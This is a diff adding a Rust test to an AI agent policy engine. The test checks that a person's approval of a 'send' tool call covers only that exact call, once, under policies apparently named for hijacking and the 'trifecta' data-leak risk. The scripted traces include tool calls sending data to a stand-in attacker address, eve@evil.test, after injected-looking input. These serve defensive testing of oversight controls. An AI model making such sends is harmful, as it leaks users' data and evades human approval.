@@ -56,6 +56,34 @@ fn a_grant_covers_its_flow_and_no_other() {
     );
 }
 
+/// A person's yes is for the call that they were shown, and for once.
+#[test]
+fn an_approval_is_for_the_call_that_it_names() {
+    for policies in [HIJACK, TRIFECTA] {
+        let rule = if policies == HIJACK { "hijack" } else { "trifecta" };
+        let more = if policies == HIJACK { "plan \"go on\"" } else { "tool_result record {\"name\":\"Lily White\"}" };
+        judge(
+            policies,
+            &format!(
+                r#"
+        {more}
+        tool_call send {{"to":"eve@evil.test"}}                             // step_up {rule}
+        approval send status=ok causes=5
+        tool_call send {{"to":"ada@example.com"}}                           // step_up {rule}
+        tool_call send {{"to":"eve@evil.test","cc":"x@evil.test"}}          // step_up {rule}
+        tool_call send {{ "to": "eve@evil.test" }}                          // allow {rule}
+        tool_call send {{"to":"eve@evil.test"}}                             // step_up {rule}
+        approval send status=ok
+        tool_call send {{"to":"eve@evil.test"}}                             // step_up {rule}
+        approval send status=ok causes=5
+        approval send status=error causes=5
+        tool_call send {{"to":"eve@evil.test"}}                             // step_up {rule}
+        "#
+            ),
+        );
+    }
+}
+
 /// Each call comes after a grant of its own, and everything else was read before.
 #[test]
 fn attacks() {
